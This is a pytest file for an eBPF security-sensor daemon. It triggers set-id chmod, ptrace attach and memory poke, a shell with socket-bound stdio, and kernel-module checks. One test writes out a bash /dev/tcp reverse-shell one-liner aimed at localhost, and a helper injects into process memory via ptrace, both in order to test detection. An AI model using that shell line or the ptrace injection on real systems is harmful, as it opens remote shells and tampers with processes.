# SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
"""The security sensors (bpf/security.bpf.c) against real syscalls: set-id chmod, ptrace attach and poke,
stdio on an inet socket at exec, and kernel modules (or the reason they are not observed)."""
import ctypes
import os
import socket
import subprocess
import time

import pytest

QUIET = "network:\n  enabled: false\nfiles:\n  enabled: false\n"

PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_ATTACH, PTRACE_DETACH = 2, 5, 16, 17
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def setid_events(d, path):
    return lambda e: e.get("class_uid") == 1001 and e.get("file", {}).get("path") == path


def test_setid_chmod_reported_only_with_the_bit(daemon_factory, tmp_path):
    d = daemon_factory(QUIET)
    f = tmp_path / "tool"
    f.write_bytes(b"#!/bin/sh\n")
    plain = tmp_path / "plain"
    plain.write_bytes(b"x")
    sub = tmp_path / "shared"
    sub.mkdir()
    subprocess.run(["chmod", "0755", str(plain)], check=True)  # no set-id bit: filtered in the kernel
    subprocess.run(["chmod", "u+s", str(f)], check=True)
    subprocess.run(["chmod", "g+s", "shared"], check=True, cwd=str(tmp_path))  # relative name
    os.chmod(str(f), 0o755)
    ev = d.wait_for(setid_events(d, str(f)), what="set-id chmod of the file")[0]
    assert ev["activity_name"] == "Set Security" and ev["status"] == "Success"
    assert ev["unmapped"]["setuid"] is True and ev["unmapped"]["setgid"] is False
    assert ev["unmapped"]["mode_requested"].startswith("04")
    assert ev["actor"]["process"]["file"]["path"].endswith("/chmod")
    assert ev["file"]["type_id"] == 1
    ev = d.wait_for(setid_events(d, str(sub)), what="set-gid on a directory, named relatively")[0]
    assert ev["unmapped"]["setgid"] is True and ev["file"]["type_id"] == 2
    assert ev["unmapped"]["path_as_given"] == "shared"
    time.sleep(0.3)
    assert not [e for e in d.read_events() if setid_events(d, str(plain))(e)], "chmod 0755 must not be reported"
    assert len([e for e in d.read_events() if setid_events(d, str(f))(e)]) == 1, "os.chmod 0755 is not set-id"


def ptrace_poke(pid, times=2):
    """Attach to pid, write a word of its memory back unchanged `times` times, detach."""
    with open(f"/proc/{pid}/maps") as m:
        addr = next(int(l.split("-")[0], 16) for l in m if l.split()[1].startswith("rw"))
    assert libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0, os.strerror(ctypes.get_errno())
    os.waitpid(pid, 0)
    ctypes.set_errno(0)
    word = libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(addr), None)
    assert ctypes.get_errno() == 0
    for _ in range(times):
        assert libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(addr), ctypes.c_void_p(word & (2**64 - 1))) == 0
    assert libc.ptrace(PTRACE_DETACH, pid, None, None) == 0


def test_ptrace_attach_and_first_poke(daemon_factory):
    d = daemon_factory(QUIET)
    target = subprocess.Popen(["sleep", "30"])
    try:
        time.sleep(0.2)
        ptrace_poke(target.pid)
        me = os.getpid()
        is_ptrace = lambda act: lambda e: (  # noqa: E731
            e.get("class_uid") == 1007 and e.get("activity_name") == act and e["process"]["pid"] == target.pid
        )
        ev = d.wait_for(is_ptrace("Open"), what="ptrace attach")[0]
        assert ev["actor"]["process"]["pid"] == me and ev["process"]["file"]["path"] == "/usr/bin/sleep"
        assert ev["unmapped"]["ptrace_request"] == "PTRACE_ATTACH" and ev["status"] == "Success"
        ev = d.wait_for(is_ptrace("Inject"), what="ptrace poke")[0]
        assert ev["injection_type"] == "ptrace" and ev["unmapped"]["ptrace_request"] == "PTRACE_POKEDATA"
        time.sleep(0.3)
        assert len([e for e in d.read_events() if is_ptrace("Inject")(e)]) == 1, "one event per tracer/tracee pair"
        st = d.cli_json("status")["security"]
        assert st["sensors"]["ptrace"]["enabled"] and st["events"] >= 2
    finally:
        target.kill()
        target.wait()


def test_reverse_shell_stdio_flag(daemon_factory):
    d = daemon_factory(QUIET)
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    shell = subprocess.Popen(
        ["bash", "--norc", "--noprofile", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{port}; exec sh -i <&3 >&3 2>&3"],
        stderr=subprocess.DEVNULL,
    )
    conn, _ = srv.accept()
    conn.sendall(b"exit\n")
    shell.wait(timeout=10)
    conn.close()
    srv.close()
    # neighbours: a pipe and a unix socket on stdio are not network sockets
    subprocess.run(["sh", "-c", "true"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, check=True)
    a, b = socket.socketpair()
    subprocess.run(["sh", "-c", "echo unix"], stdin=a, stdout=a, check=True)
    a.close()
    b.close()
    ev = d.wait_for(
        lambda e: e.get("activity_name") == "Launch"
        and e["process"]["pid"] == shell.pid
        and e["process"].get("cmd_line") == "sh -i",
        what="sh -i",
    )
    assert ev[0]["unmapped"]["stdio_socket"] is True
    assert ev[0]["unmapped"]["stdio_sockets"] == ["stdin", "stdout", "stderr"]
    others = d.wait_for(
        lambda e: e.get("activity_name") == "Launch" and e["process"].get("cmd_line") in ("sh -c true", "sh -c echo unix"),
        count=2,
        what="the neighbours",
    )
    assert all("stdio_socket" not in e["unmapped"] for e in others)


def test_kernel_module_sensor_status(daemon_factory):
    d = daemon_factory(QUIET)
    km = d.cli_json("status")["security"]["sensors"]["kernel_modules"]
    if not os.path.exists("/proc/modules"):
        # this kernel cannot load modules: the sensor says so instead of pretending
        assert km["enabled"] is False and "no loadable module support" in km["reason"]
        return
    assert km["enabled"] is True
    pytest.skip("module loading on a modular kernel is exercised by the kernel matrix, not on this host")
